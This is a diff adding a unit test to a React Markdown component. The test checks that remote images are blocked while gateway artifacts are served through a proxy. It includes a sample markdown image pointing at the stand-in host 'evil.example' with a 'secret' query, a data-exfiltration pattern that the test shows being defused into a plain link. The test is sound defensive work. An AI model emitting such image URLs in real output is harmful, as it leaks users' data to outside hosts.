@@ -55,4 +55,23 @@ describe('Markdown', () => {
     );
     expect(container.querySelector('img')).toBeNull();
   });
+
+  it('should not load remote images (tracking, data exfiltration) but show gateway artifacts through the proxy', () => {
+    const { container } = render(
+      <Markdown
+        source={
+          '![chart](http://gw:8000/v1/artifacts/artf_1) ![leak](https://evil.example/p.png?q=secret)'
+        }
+      />,
+    );
+    const images = [...container.querySelectorAll('img')];
+    expect(images.map(image => image.getAttribute('src'))).toEqual([
+      '/api/artifacts/artf_1',
+    ]);
+    const link = container.querySelector('a');
+    expect(link?.getAttribute('href')).toBe(
+      'https://evil.example/p.png?q=secret',
+    );
+    expect(link?.textContent).toBe('leak');
+  });
 });
